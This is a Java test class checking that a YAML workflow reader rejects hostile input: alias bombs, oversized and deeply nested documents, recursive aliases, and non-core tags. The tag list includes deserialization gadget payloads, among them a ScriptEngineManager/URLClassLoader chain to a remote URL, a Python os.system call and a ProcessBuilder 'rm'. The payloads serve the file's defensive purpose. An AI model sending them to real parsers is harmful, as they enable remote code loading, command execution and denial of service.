package org.datahandle.internal.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.util.List;
import org.datahandle.SpecException;
import org.datahandle.internal.spec.HandleDeclaration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile documents are refused with a SpecException before they cost memory, stack or time. */
class WorkflowReaderSafetyTest {

    private static SpecException error(String yaml) {
        return error(yaml, YamlLimits.DEFAULT);
    }

    private static SpecException error(String yaml, YamlLimits limits) {
        return catchThrowableOfType(SpecException.class, () -> WorkflowReader.read(yaml, "wf.yaml", limits));
    }

    @Test
    void billionLaughsIsRefusedByTheAliasLimit() {
        StringBuilder yaml = new StringBuilder("jobs:\n  a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char level = 'b'; level <= 'i'; level++) {
            yaml.append("  ").append(level).append(": &").append(level).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = level;
        }
        yaml.append("dataHandles:\n  h: {disk: {path: a.csv}}\n");

        SpecException e = error(yaml.toString());

        assertThat(e).isNotNull();
        assertThat(e.problem()).startsWith("rejected YAML: ").contains("aliases", "max=50");
        assertThat(e.line()).hasValue(8); // where the 51st collection alias is: level g, on line 8
    }

    @Test
    void aliasesStackedBelowTheAliasLimitAreRefusedByTheExpansionBudget() {
        // 24 levels, two aliases each: 48 aliases, but 2^24 leaves once expanded
        StringBuilder yaml = new StringBuilder("jobs:\n  l0: &l0 [x, x]\n");
        for (int level = 1; level <= 24; level++) {
            yaml.append("  l").append(level).append(": &l").append(level)
                    .append(" [*l").append(level - 1).append(", *l").append(level - 1).append("]\n");
        }
        yaml.append("dataHandles: {}\n");

        SpecException e = error(yaml.toString());

        assertThat(e).isNotNull();
        assertThat(e.problem()).contains("aliases expand this document to more than 2000000 nodes");
        assertThat(e.line()).isPresent();
    }

    @Test
    void hugeDocumentIsRefusedBeforeParsing() {
        String huge = "a: '" + "x".repeat(YamlLimits.DEFAULT.maxCodePoints()) + "'\n";
        SpecException e = error(huge);
        assertThat(e).isNotNull();
        assertThat(e.problem()).isEqualTo("the document has " + huge.length() + " characters, more than the limit of "
                + YamlLimits.DEFAULT.maxCodePoints());
        assertThat(e.source()).contains("wf.yaml");
    }

    @Test
    void sizeLimitCountsCodePointsNotUtf16Units() {
        YamlLimits limits = new YamlLimits(100, 50, 64, 1000);
        // 40 emoji are 80 UTF-16 units but only 40 code points: within a limit of 100
        String yaml = "h: {disk: {path: '" + "\uD83D\uDE00".repeat(40) + ".csv'}}\n";
        assertThat(yaml.length()).isGreaterThan(100);
        List<HandleDeclaration> handles = WorkflowReader.read(yaml, "wf.yaml", limits);
        assertThat(handles).hasSize(1);

        SpecException e = error("h: {disk: {path: '" + "a".repeat(200) + ".csv'}}\n", limits);
        assertThat(e.problem()).contains("more than the limit of 100");
    }

    @Test
    void deepNestingFailsAtTheLimitNotWithAStackOverflow() {
        String deep = "[".repeat(100_000) + "]".repeat(100_000);
        SpecException e = error(deep);
        assertThat(e.problem()).isEqualTo("maps and lists nest more than 64 levels deep");
        assertThat(e.line()).hasValue(1);
        assertThat(e.column()).hasValue(65);

        SpecException maps = error("{a: ".repeat(70) + "x" + "}".repeat(70));
        assertThat(maps.problem()).contains("nest more than 64 levels");
    }

    @Test
    void nestingWithinTheLimitIsFine() {
        String options = "{a: ".repeat(40) + "x" + "}".repeat(40);
        List<HandleDeclaration> handles = WorkflowReader.read("h: {disk: {path: a.csv, options: " + options + "}}",
                "wf.yaml");
        assertThat(handles.get(0).disk().orElseThrow().options()).containsKey("a");
    }

    @Test
    void nestingThroughAliasesCountsToo() {
        YamlLimits limits = new YamlLimits(10_000, 50, 8, 10_000);
        // each anchor is 5 deep in the text, but *a inside b inside c is 15 deep once expanded
        String yaml = """
                jobs:
                  a: &a [[[[x]]]]
                  b: &b [[[[*a]]]]
                  c: [[[[*b]]]]
                """;
        SpecException e = error(yaml, limits);
        assertThat(e.problem()).contains("levels deep through aliases, more than the limit of 8");
    }

    @Test
    void recursiveAliasIsRefused() {
        SpecException e = error("jobs: &a [x, *a]\ndataHandles: {}\n");
        assertThat(e).isNotNull();
        assertThat(e.problem()).contains("recursive");
        assertThat(e.line()).hasValue(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "!!java.io.File /tmp/x",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
        "!custom value",
        "!!binary aGVsbG8=",
        "!!set {a, b}",
        "!!timestamp 2001-12-14",
        "!<tag:example.com,2000:app/foo> bar",
        "!!python/object/apply:os.system [ls]"
    })
    void nonCoreTagsAreRefused(String value) {
        SpecException e = error("h:\n  disk:\n    path: a.csv\n    options:\n      x: " + value + "\n");
        assertThat(e).as(value).isNotNull();
        assertThat(e.problem()).contains("is not allowed; use plain maps, lists, strings, numbers and booleans");
        assertThat(e.line()).hasValue(5);
        assertThat(e.column()).hasValue(10);
    }

    @Test
    void tagsAreCheckedInTheEnginesPartOfTheDocumentToo() {
        SpecException e = error("jobs: !!java.lang.ProcessBuilder [rm]\ndataHandles: {}\n");
        assertThat(e.problem()).startsWith("tag '!!java.lang.ProcessBuilder' is not allowed");
        assertThat(e.line()).hasValue(1);
        assertThat(e.column()).hasValue(7);
    }

    @Test
    void coreSchemaTagsAreAllowed() {
        List<HandleDeclaration> handles = WorkflowReader.read(
                "h: {disk: {path: !!str 2024, options: {n: !!int '7', f: !!float 1, s: !!str true}}}", "wf.yaml");
        assertThat(handles.get(0).disk().orElseThrow().options())
                .containsEntry("n", 7).containsEntry("f", 1.0).containsEntry("s", "true");
    }
}
